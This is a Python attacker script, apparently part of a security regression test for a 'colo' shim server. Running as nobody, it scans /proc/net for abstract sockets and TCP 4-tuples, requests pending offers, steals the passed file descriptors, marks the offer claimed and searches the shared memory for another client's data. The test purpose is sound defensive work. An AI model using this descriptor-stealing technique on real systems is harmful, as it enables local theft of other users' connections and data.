"""Attacker (run as nobody) for tests/attack/t_shim_offer.sh: takes a pending offer from root's
server under colo run.

The shim once served the offers it held to whoever connected to colo/1/shim/<pid> (the pid is
in /proc/net/unix) and named a pending 4-tuple (in /proc/net/tcp). This tries every abstract
name under colo/ that /proc/net/unix shows (but other ports' rendezvous), with every 4-tuple to the server's port that
/proc/net/tcp shows, in the old request format and in the shape of the new one (the key with a
reply socket attached). Anything that answers with descriptors is used as the old server did:
the claim word is set to CLAIMED, WELCOME is sent, and the segment is searched for the
client's bytes.

usage: shim_offer_thief.py SERVER_PORT SECONDS NEEDLE OUTFILE
writes KEYS/NAMES/STOLE/READ lines to OUTFILE.
"""
import mmap
import os
import socket
import struct
import sys
import time

port, seconds, needle, outfile = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3].encode(), sys.argv[4]
out = open(outfile, "a", buffering=1)


def tcp_keys():
    keys = set()
    for f in ("/proc/net/tcp",):
        for line in open(f).read().splitlines()[1:]:
            parts = line.split()
            loc, rem = parts[1], parts[2]

            def addr(a):
                ip, p = a.split(":")
                ip = socket.inet_ntoa(struct.pack("<I", int(ip, 16)))
                return "%s:%d" % (ip, int(p, 16))

            la, ra = addr(loc), addr(rem)
            if la.endswith(":%d" % port) and not ra.endswith(":0"):
                keys.add("%s|%s" % (ra, la))
            if ra.endswith(":%d" % port):
                keys.add("%s|%s" % (la, ra))
    return keys


def colo_names():
    names = set()
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        parts = line.split()
        if len(parts) < 8 or not parts[7].startswith("@colo/"):
            continue
        name = parts[7][1:]
        # Other servers' rendezvous (other ports) are left alone: they hold no offer of this one.
        last = name.rsplit("/", 1)[-1]
        if name.count("/") == 2 and last[-1:].isdigit() and not last.endswith(":%d" % port):
            continue
        names.add(name)
    return names


def use(fds):
    """Uses a stolen offer as the old server did, and looks for the client's bytes."""
    if len(fds) < 4:
        return
    control, memfd = fds[0], fds[1]
    size = os.fstat(memfd).st_size
    mm = mmap.mmap(memfd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    mm[36:40] = struct.pack("<I", 2)  # claim = CLAIMED
    welcome = struct.pack("<IBBBBII", 0x4F4C4F43, 2, 1, 0, 0, 0, 0)
    try:
        os.write(control, welcome)
    except OSError:
        pass
    end = time.time() + 3
    while time.time() < end:
        i = mm.find(needle)
        if i >= 0:
            out.write("READ %r\n" % mm[i:i + 64].split(b"\n")[0])
            return
        time.sleep(0.02)


tried = set()
end = time.time() + seconds
while time.time() < end:
    keys, names = tcp_keys(), colo_names()
    for k in keys - {x[0] for x in tried}:
        out.write("KEY %s\n" % k)
    for n in names - {x[1] for x in tried}:
        out.write("NAME %s\n" % n)
    for k in sorted(keys, reverse=True):
        for n in sorted(names, key=lambda n: "shim" not in n):
            for shape in ("old", "new"):
                if (k, n, shape) in tried:
                    continue
                tried.add((k, n, shape))
                s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
                s.settimeout(0.2)
                try:
                    s.connect(b"\0" + n.encode())
                    if shape == "old":
                        s.send(k.encode())
                        r = s
                    else:
                        r, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
                        r.settimeout(0.2)
                        socket.send_fds(s, [k.encode()], [theirs.fileno()])
                        theirs.close()
                    msg, fds, _, _ = socket.recv_fds(r, 64, 8)
                except OSError:
                    s.close()
                    continue
                if fds:
                    out.write("STOLE %d descriptors from %s for %s: %r\n" % (len(fds), n, k, msg))
                    use(fds)
                s.close()
    time.sleep(0.05)
